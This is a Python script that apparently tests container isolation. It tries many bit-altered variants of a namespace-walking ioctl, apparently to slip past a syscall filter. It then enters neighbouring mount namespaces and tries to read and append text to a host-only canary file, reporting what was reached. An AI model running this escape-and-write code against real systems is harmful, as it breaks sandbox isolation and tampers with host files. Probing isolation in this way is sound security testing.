"""
Walks from the mount namespace that it is in to those beside it, by every number of the ioctl that a kernel may take for it. Its
arguments are a file that only the host sees, and the words to write into it. Says of each number what is answered for a closed
descriptor, which tells whether a filter let the call pass, and for the own namespace; and what was reached: `read` when the file was
read in a namespace that the walk led to, `written` when it was written.
"""
import ctypes, errno, os, signal, sys

canary, words = sys.argv[1:3]
libc = ctypes.CDLL(None, use_errno=True)
NEXT, PREVIOUS = 11, 12
CLONE_NEWNS = 0x00020000


def number(nr, type=0xB7, size=16, direction=2):
    return direction << 30 | size << 16 | type << 8 | nr


numbers = [
    number(nr, **parts)
    for nr in (NEXT, PREVIOUS)
    for parts in (
        [dict(size=size) for size in (0, 8, 16, 17, 32, 64, 4096, 0x3FFF)]
        + [dict(size=32, direction=direction) for direction in (0, 1, 3)]
        + [dict(type=type, size=size) for type in (0, 0x54, 0xFF) for size in (16, 64)]
    )
]


def ioctl(fd, command):
    ctypes.set_errno(0)
    space = ctypes.create_string_buffer(0x4000)
    # A command whose upper half is set is the same to the kernel.
    return libc.syscall(16 if os.uname().machine == "x86_64" else 29, fd, ctypes.c_ulong(command), space)


def answer(result):
    return "OK" if result >= 0 else errno.errorcode[ctypes.get_errno()]


def enter(namespace):
    """In a process of its own: what can be done to the file there, as an exit code of two bits."""
    child = os.fork()
    if child == 0:
        done = 0
        try:
            if libc.setns(namespace, CLONE_NEWNS) == 0 and os.path.exists(canary):
                done |= 1
                with open(canary, "a") as file:
                    file.write(words)
                done |= 2
        except OSError:
            pass
        os._exit(done)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def walk(command):
    """How the first step is answered, and what the whole walk reached."""
    first, reached = None, 0
    here = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    for _ in range(64):
        there = ioctl(here, command)
        first = first or answer(there)
        os.close(here)
        if there < 0:
            break
        reached |= enter(there)
        here = there
    return first, reached


for command in numbers + [1 << 32 | number(NEXT, size=32)]:
    print(f"closed.{command:#x}", answer(ioctl(-1, command)), sep="\t")
    first, reached = walk(command)
    print(f"first.{command:#x}", first, sep="\t")
    print(f"read.{command:#x}", "yes" if reached & 1 else "no", sep="\t")
    print(f"written.{command:#x}", "yes" if reached & 2 else "no", sep="\t", flush=True)
print("end\t", flush=True)
signal.pause()
